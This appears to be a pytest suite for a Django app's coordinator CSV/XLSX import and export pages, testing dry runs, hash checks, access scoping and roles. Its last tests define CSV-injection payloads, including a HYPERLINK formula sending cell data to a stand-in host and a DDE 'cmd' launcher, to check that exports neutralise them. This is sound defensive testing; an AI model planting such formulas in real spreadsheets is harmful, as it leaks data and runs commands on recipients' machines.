"""The import and export page through the test client: upload → dry run → confirm; exports."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from accounts.models import User
from candidates.models import CandidateProfile
from companies.models import Company
from imports.models import ImportBatch
from matching.models import Match
from tests.factories import (
    CandidateProfileFactory,
    CompanyFactory,
    OrganisationFactory,
    PlacementFactory,
    UserFactory,
    municipality,
)

pytestmark = pytest.mark.django_db

GOOD = (
    "Ime i prezime;Opština;Telefon;Obuka;Datum\n"
    "Marija Petrović;Niš;064 123 4567;Kuvar;15.03.2027.\n"
    "Стефан Николић;Пирот;;Kuvar;15.03.2027.\n"
)
WITH_ERROR = GOOD + "Ana Ilić;Atlantida;;;\n"


def make_coordinator(
    username: str = "koordinator", codes: tuple[str, ...] = ("nis", "pirot")
) -> User:
    organisation = OrganisationFactory.create(short_name=f"ORG-{username}")
    organisation.districts.set([municipality(code).district for code in codes])
    return UserFactory.create(
        username=username, role=User.Role.COORDINATOR, organisation=organisation
    )


@pytest.fixture
def coordinator() -> User:
    return make_coordinator()


@pytest.fixture
def client(coordinator: User) -> Client:
    client = Client()
    client.force_login(coordinator)
    client.cookies["django_language"] = "en"
    return client


def upload(client: Client, text: str, kind: str = "beneficiaries") -> ImportBatch:
    response = client.post(
        "/coordinator/imports/",
        {"kind": kind, "file": SimpleUploadedFile("lista.csv", text.encode("utf-8"))},
    )
    assert response.status_code == 302
    batch = ImportBatch.objects.latest("id")
    assert response["Location"] == f"/coordinator/imports/batches/{batch.pk}/"
    return batch


def test_the_page_documents_headers_and_offers_samples(client: Client) -> None:
    page = client.get("/coordinator/imports/").content.decode()
    assert "ime i prezime" in page and "opstina" in page and "pib" in page
    assert 'href="/coordinator/imports/samples/beneficiaries.csv"' in page
    sample = client.get("/coordinator/imports/samples/beneficiaries.csv")
    assert sample.status_code == 200
    assert b"Ime i prezime" in sample.content


def test_the_sample_files_import_cleanly(client: Client) -> None:
    everywhere = Client()
    everywhere.force_login(make_coordinator("jug", ("nis", "pirot", "leskovac", "vranje")))
    for kind in ("beneficiaries", "companies"):
        response = client.get(f"/coordinator/imports/samples/{kind}.csv")
        sample = response.content
        batch = upload(everywhere, sample.decode("utf-8"), kind=kind)
        everywhere.post(
            f"/coordinator/imports/batches/{batch.pk}/confirm/",
            {"sha256": batch.sha256, "mode": "all"},
        )
        batch.refresh_from_db()
        assert (batch.status, batch.error_count) == ("imported", 0)
    assert CandidateProfile.objects.count() == 4
    assert Company.objects.count() == 2


def test_upload_dry_run_then_confirm(client: Client) -> None:
    batch = upload(client, GOOD)
    assert not CandidateProfile.objects.exists()
    page = client.get(f"/coordinator/imports/batches/{batch.pk}/").content.decode()
    assert "2 to create, 0 to update, 0 unchanged, 0 with errors, 0 possible duplicates" in page
    assert "would create" in page and "Marija Petrović" in page
    assert not CandidateProfile.objects.exists()  # the dry run wrote nothing
    response = client.post(
        f"/coordinator/imports/batches/{batch.pk}/confirm/",
        {"sha256": batch.sha256, "mode": "all"},
        follow=True,
    )
    assert "Imported: 2 created, 0 updated, 0 unchanged" in response.content.decode()
    assert CandidateProfile.objects.count() == 2
    batch.refresh_from_db()
    assert (batch.status, batch.created_count, batch.valid_only) == ("imported", 2, False)
    # The same batch cannot be imported twice.
    again = client.post(
        f"/coordinator/imports/batches/{batch.pk}/confirm/",
        {"sha256": batch.sha256, "mode": "all"},
        follow=True,
    )
    assert "already been imported" in again.content.decode()


def test_errors_are_shown_with_row_and_column_and_block_the_full_import(client: Client) -> None:
    batch = upload(client, WITH_ERROR)
    page = client.get(f"/coordinator/imports/batches/{batch.pk}/").content.decode()
    assert "Row 4, column “Opština”: Unknown municipality “Atlantida”." in page
    assert 'value="valid_only"' in page and 'value="all"' not in page
    refused = client.post(
        f"/coordinator/imports/batches/{batch.pk}/confirm/",
        {"sha256": batch.sha256, "mode": "all"},
        follow=True,
    )
    assert "Nothing was imported: 1 rows have errors" in refused.content.decode()
    assert not CandidateProfile.objects.exists()
    client.post(
        f"/coordinator/imports/batches/{batch.pk}/confirm/",
        {"sha256": batch.sha256, "mode": "valid_only"},
    )
    assert CandidateProfile.objects.count() == 2
    batch.refresh_from_db()
    assert (batch.status, batch.valid_only, batch.error_count) == ("imported", True, 1)


def test_confirm_refuses_a_tampered_hash_or_changed_bytes(client: Client) -> None:
    batch = upload(client, GOOD)
    response = client.post(
        f"/coordinator/imports/batches/{batch.pk}/confirm/",
        {"sha256": "0" * 64, "mode": "all"},
        follow=True,
    )
    assert "not the file the dry run checked" in response.content.decode()
    ImportBatch.objects.filter(pk=batch.pk).update(content=WITH_ERROR.encode())
    response = client.post(
        f"/coordinator/imports/batches/{batch.pk}/confirm/",
        {"sha256": batch.sha256, "mode": "all"},
        follow=True,
    )
    assert "not the file the dry run checked" in response.content.decode()
    assert not CandidateProfile.objects.exists()


def test_another_coordinators_batch_is_not_found(client: Client) -> None:
    other = make_coordinator("druga")
    other_client = Client()
    other_client.force_login(other)
    batch = upload(other_client, GOOD)
    assert client.get(f"/coordinator/imports/batches/{batch.pk}/").status_code == 404
    response = client.post(
        f"/coordinator/imports/batches/{batch.pk}/confirm/",
        {"sha256": batch.sha256, "mode": "all"},
    )
    assert response.status_code == 404
    assert not CandidateProfile.objects.exists()


def test_a_bad_upload_shows_the_form_error(client: Client) -> None:
    response = client.post(
        "/coordinator/imports/",
        {"kind": "beneficiaries", "file": SimpleUploadedFile("lista.pdf", b"%PDF")},
    )
    assert response.status_code == 400
    assert "Upload a .csv or .xlsx file." in response.content.decode()
    batch = upload(client, "Opština;Telefon\nNiš;0641234567\n")
    page = client.get(f"/coordinator/imports/batches/{batch.pk}/").content.decode()
    assert "The file has no name column" in page


def test_the_report_is_in_the_page_language(client: Client) -> None:
    batch = upload(client, WITH_ERROR)
    client.cookies["django_language"] = "sr"
    page = client.get(f"/coordinator/imports/batches/{batch.pk}/").content.decode()
    with translation.override("sr"):
        expected = gettext("Unknown municipality “%(name)s”.") % {"name": "Atlantida"}
    assert 'lang="sr-Cyrl"' in page
    assert expected in page  # worded afresh in the page language, not stored from the upload


@pytest.mark.parametrize("role", [User.Role.CANDIDATE, User.Role.COMPANY])
def test_other_roles_get_403(role: str) -> None:
    client = Client()
    client.force_login(UserFactory.create(role=role))
    for url in (
        "/coordinator/imports/",
        "/coordinator/imports/export/placements/",
        "/coordinator/imports/export/matches/",
        "/coordinator/imports/samples/companies.csv",
    ):
        assert client.get(url).status_code == 403
    assert client.post("/coordinator/imports/batches/1/confirm/").status_code == 403


def test_anonymous_visitors_go_to_login() -> None:
    response = Client().get("/coordinator/imports/")
    assert response.status_code == 302 and "login" in response["Location"]


def _scoped_data() -> None:
    nis_company = CompanyFactory.create(legal_name="Niška firma")
    vranje_company = CompanyFactory.create(
        legal_name="Vranjska firma", municipality=municipality("vranje")
    )
    nis_placement = PlacementFactory.create(
        company=nis_company, title="Praksa Niš", municipality=municipality("pirot")
    )
    vranje_placement = PlacementFactory.create(
        company=vranje_company, title="Praksa Vranje", municipality=municipality("vranje")
    )
    ana = CandidateProfileFactory.create(
        user=UserFactory.create(first_name="Ana", last_name="Ilić")
    )
    mila = CandidateProfileFactory.create(
        user=UserFactory.create(first_name="Mila", last_name="Jović"),
        municipality=municipality("vranje"),
    )
    Match.objects.create(candidate=ana, placement=nis_placement, score=0.83)
    Match.objects.create(candidate=mila, placement=vranje_placement, score=0.5)


def test_placement_export_csv_is_scoped_and_in_the_chosen_script(client: Client) -> None:
    _scoped_data()
    response = client.get(
        "/coordinator/imports/export/placements/", {"format": "csv", "script": "cyrl"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    lines = text.strip().splitlines()
    assert lines[0].startswith("Company;Title;Kind;Municipality")
    assert len(lines) == 2
    assert "Niška firma;Praksa Niš;Internship;Пирот" in lines[1]
    assert "Vranje" not in text


def test_match_export_xlsx_is_scoped_without_sensitive_data(client: Client) -> None:
    _scoped_data()
    response = client.get("/coordinator/imports/export/matches/", {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][:6] == [
        "Candidate",
        "Candidate's municipality",
        "Placement",
        "Company",
        "Placement municipality",
        "Score",
    ]
    assert len(rows) == 2
    assert rows[1][:6] == ["Ana Ilić", "Niš", "Praksa Niš", "Niška firma", "Pirot", 0.83]
    flat = " ".join(str(cell) for row in rows for cell in row)
    assert not re.search(r"returnee|gender|Roma|Mila", flat)


def test_an_admin_exports_everything(client: Client) -> None:
    _scoped_data()
    admin = Client()
    admin.force_login(UserFactory.create(role=User.Role.ADMIN, username="root"))
    text = admin.get("/coordinator/imports/export/matches/", {"format": "csv"}).content.decode(
        "utf-8-sig"
    )
    assert "Mila Jović" in text and "Ana Ilić" in text
    assert Company.objects.count() == 2


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"CV")'
HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_COMPANY = "+381 Firma"


def _hostile_data() -> None:
    company = CompanyFactory.create(legal_name=HOSTILE_COMPANY)
    placement = PlacementFactory.create(
        company=company, title=HOSTILE_TITLE, municipality=municipality("pirot")
    )
    candidate = CandidateProfileFactory.create(
        user=UserFactory.create(first_name=HOSTILE_NAME, last_name="-Ilić")
    )
    Match.objects.create(candidate=candidate, placement=placement, score=0.83)


@pytest.mark.parametrize("what", ["matches", "placements"])
def test_csv_exports_neutralise_formula_leading_names_and_titles(client: Client, what: str) -> None:
    _hostile_data()
    response = client.get(f"/coordinator/imports/export/{what}/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE_TITLE in cells and "'" + HOSTILE_COMPANY in cells
    if what == "matches":
        assert "'" + HOSTILE_NAME + " -Ilić" in cells
    assert not [cell for cell in cells if cell and cell[0] in "=+-@"]


@pytest.mark.parametrize("what", ["matches", "placements"])
def test_xlsx_exports_write_names_and_titles_as_text(client: Client, what: str) -> None:
    _hostile_data()
    response = client.get(f"/coordinator/imports/export/{what}/", {"format": "xlsx"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    values = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert values[HOSTILE_TITLE].data_type == "s" and values[HOSTILE_TITLE].quotePrefix
    assert values[HOSTILE_COMPANY].data_type == "s"
    if what == "matches":
        assert values[HOSTILE_NAME + " -Ilić"].data_type == "s"
